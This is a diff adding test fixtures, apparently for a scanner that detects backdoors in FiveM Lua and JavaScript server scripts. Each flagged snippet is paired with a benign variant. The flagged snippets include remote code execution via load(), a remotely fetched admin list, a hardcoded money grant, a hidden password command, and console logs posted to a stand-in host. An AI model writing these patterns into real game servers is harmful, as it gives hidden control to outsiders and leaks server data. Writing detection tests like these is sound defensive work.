@@ -82,4 +82,55 @@ export const connectionFixtures: Fixture[] = [
     `const _ = require('lodash'); $('#a').on('click', () => _.each($('li'), ($_) => $($_).hide()))`,
     'page',
   ),
+  lua(
+    'runs-text-from-outside',
+    `RegisterNetEvent('notify', function(step)\n^ Citizen.InvokeNative(tonumber(step[1], 16), step[2])\nend)`,
+    `RegisterNetEvent('notify', function(step)\n  Citizen.InvokeNative(0x1234, step[2])\nend)`,
+    'client',
+  ),
+  lua(
+    'remote-switch',
+    `PerformHttpRequest('https://a.example', function(code, body)\n  for _, id in ipairs(json.decode(body)) do\n^   if id == GetPlayerIdentifier(source, 0) then open() end\n  end\nend)`,
+    `for _, id in ipairs(Config.Staff) do\n  if id == GetPlayerIdentifier(source, 0) then open() end\nend`,
+  ),
+  lua(
+    'fixed-player',
+    `local hash = GetHashKey(GetPlayerIdentifierByType(source, 'license')) & 0xFFFFFFFF\nfor _, group in ipairs(Config.Groups) do\n^ if group.key == hash then join(group) end\nend`,
+    `local hash = GetHashKey(Config.Model) & 0xFFFFFFFF\nfor _, group in ipairs(Config.Groups) do\n  if group.key == hash then join(group) end\nend`,
+  ),
+  lua(
+    'grants-rights',
+    `local card = '7d1c02ab93f4e8560a1b2c3d4e5f60718293a4b5'\nif 'license:' .. card == xPlayer.identifier then\n^ xPlayer.addMoney(price)\nend`,
+    `local revision = '7d1c02ab93f4e8560a1b2c3d4e5f60718293a4b'\nxPlayer.addMoney(price)`,
+  ),
+  lua(
+    'waits-for-date',
+    `^local late = os.difftime(os.time(), 1830297600)`,
+    `local late = os.difftime(os.time(), startedAt)`,
+  ),
+  lua(
+    'hidden-text',
+    `local function sum(text)\n  local total = 5381\n  for i = 1, #text do total = (total * 33 + text:byte(i)) & 0x7fffffff end\n  return total\nend\nRegisterCommand('hint', function(source, args)\n^ if sum(args[1]) == 458982833 then open() end\nend)`,
+    `local function sum(text)\n  local total = 5381\n  for i = 1, #text do total = (total * 33 + text:byte(i)) & 0x7fffffff end\n  return total\nend\nRegisterCommand('hint', function(source, args)\n  if sum(args[1]) == sums[source] then open() end\nend)`,
+  ),
+  lua(
+    'runs-computed-code',
+    `local codes = {}\nfor mark in text:gmatch('.') do codes[#codes + 1] = mark == 'a' and 1 or 0 end\n^load(string.char(table.unpack(codes)))()`,
+    `local codes = {}\nfor mark in text:gmatch('.') do codes[#codes + 1] = mark == 'a' and 1 or 0 end\nprint(string.char(table.unpack(codes)))`,
+  ),
+  js(
+    'address-host',
+    `const socket = require('dgram').createSocket('udp4')\n^socket.send(lines, 0, 10, 5514, '93.184.216.34')`,
+    `const socket = require('dgram').createSocket('udp4')\nsocket.send(lines, 0, 10, 5514, '127.0.0.1')`,
+  ),
+  js(
+    'sends-data',
+    `const lines = []\nRegisterConsoleListener((channel, message) => lines.push(message))\n^setInterval(() => fetch('https://a.example', { method: 'POST', body: JSON.stringify(lines) }), 5000)`,
+    `const lines = []\nRegisterConsoleListener((channel, message) => lines.push(message))\nsetInterval(() => fetch('https://a.example', { method: 'POST', body: 'alive' }), 5000)`,
+  ),
+  js(
+    'writes-code',
+    `^const files = { 'fxmanifest.lua': "fx_version 'cerulean'" }\nfor (const [name, text] of Object.entries(files)) require('fs').writeFileSync(folder + name, text)`,
+    `const files = { 'readme.txt': 'How to install' }\nfor (const [name, text] of Object.entries(files)) require('fs').writeFileSync(folder + name, text)`,
+  ),
 ]
